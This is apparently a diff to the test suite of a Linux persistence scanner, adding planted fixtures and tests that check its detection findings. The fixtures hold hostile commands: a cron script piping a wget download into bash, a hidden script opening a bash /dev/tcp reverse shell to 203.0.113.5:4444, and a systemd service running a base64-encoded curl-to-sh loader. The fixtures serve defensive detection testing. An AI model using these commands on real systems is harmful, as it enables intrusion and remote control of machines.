@@ -94,6 +94,52 @@ PLANTED: dict[str, tuple[list[tuple[str, str, int]], str, str]] = {
         "SC-LNX-DOWNLOAD-EXEC",
         "/etc/cron.d/update",
     ),
+    "cron-daily-script-downloads": (
+        [
+            (
+                "/etc/cron.daily/ntp-sync",
+                "#!/bin/sh\n# keep the clock right\nwget -q -O - http://203.0.113.7/t | bash\n",
+                0o755,
+            )
+        ],
+        "SC-SCRIPT-DOWNLOAD-RUN",
+        "/etc/cron.daily/ntp-sync",
+    ),
+    "cron-job-script-runs-a-reverse-shell-script": (
+        [
+            ("/etc/cron.d/backup", "*/5 * * * * root /usr/local/bin/backup.sh\n", 0o644),
+            (
+                "/usr/local/bin/backup.sh",
+                "#!/bin/sh\ntar czf /var/backups/home.tgz /home\n/opt/.cache/sync.sh &\n",
+                0o755,
+            ),
+            (
+                "/opt/.cache/sync.sh",
+                "#!/bin/bash\nbash -i >& /dev/tcp/203.0.113.5/4444 0>&1\n",
+                0o755,
+            ),
+        ],
+        "SC-SCRIPT-REVERSE-SHELL",
+        "/opt/.cache/sync.sh",
+    ),
+    "systemd-unit-runs-encoded-download-script": (
+        [
+            (
+                "/etc/systemd/system/update-helper.service",
+                "[Service]\nExecStart=/usr/local/sbin/update-helper\n[Install]\n"
+                "WantedBy=multi-user.target\n",
+                0o644,
+            ),
+            (
+                "/usr/local/sbin/update-helper",
+                "#!/bin/sh\necho Y3VybCBodHRwOi8vZXhhbXBsZS5pbnZhbGlkL3ggfCBzaA== "
+                "| base64 -d | sh\n",
+                0o755,
+            ),
+        ],
+        "SC-SCRIPT-DECODE-RUN",
+        "/usr/local/sbin/update-helper",
+    ),
     "cron-hourly-network-shell": (
         [
             (
@@ -489,3 +535,32 @@ def test_kernel_module_that_no_package_ships(tmp_path: Path) -> None:
     evidence = found[0].evidence[0]
     assert evidence.path == "/etc/modules-load.d/input.conf" and evidence.line == 1
     assert f"{kernel}/extra/hid_logger.ko" in found[0].explanation
+
+
+def test_script_findings_name_the_line_and_what_starts_them(tmp_path: Path) -> None:
+    root = packaged_debian_root(tmp_path / "disk")
+    for name, content, mode in PLANTED["cron-job-script-runs-a-reverse-shell-script"][0]:
+        write(root, name, content, mode)
+    report = scan(root)
+    found = next(f for f in report.findings if f.id == "SC-SCRIPT-REVERSE-SHELL")
+    assert found.severity is Severity.HIGH
+    evidence = found.evidence[0]
+    assert (evidence.path, evidence.line) == ("/opt/.cache/sync.sh", 2)
+    assert evidence.command is not None and "/dev/tcp/203.0.113.5/4" in evidence.command
+    rows = {c.id: c for c in report.coverage}
+    assert rows["scan.scripts"].status is CoverageStatus.OK
+    assert "1 of them run by another script" in rows["scan.scripts"].reason
+
+
+def test_a_start_up_script_too_large_to_read_is_said(tmp_path: Path) -> None:
+    root = packaged_debian_root(tmp_path / "disk")
+    write(root, "/etc/cron.daily/huge", "#!/bin/sh\n" + "true\n" * 100_000, 0o755)
+    rows = {c.id: c for c in scan(root).coverage}
+    assert rows["scan.scripts"].status is CoverageStatus.PARTIAL
+    assert "/etc/cron.daily/huge" in rows["scan.scripts"].reason
+
+
+def test_a_pristine_root_has_no_script_finding(benign: Path) -> None:
+    report = scan(benign)
+    assert not [f for f in report.findings if f.id.startswith("SC-SCRIPT-")]
+    assert {c.id: c.status for c in report.coverage}["scan.scripts"] is not CoverageStatus.PARTIAL
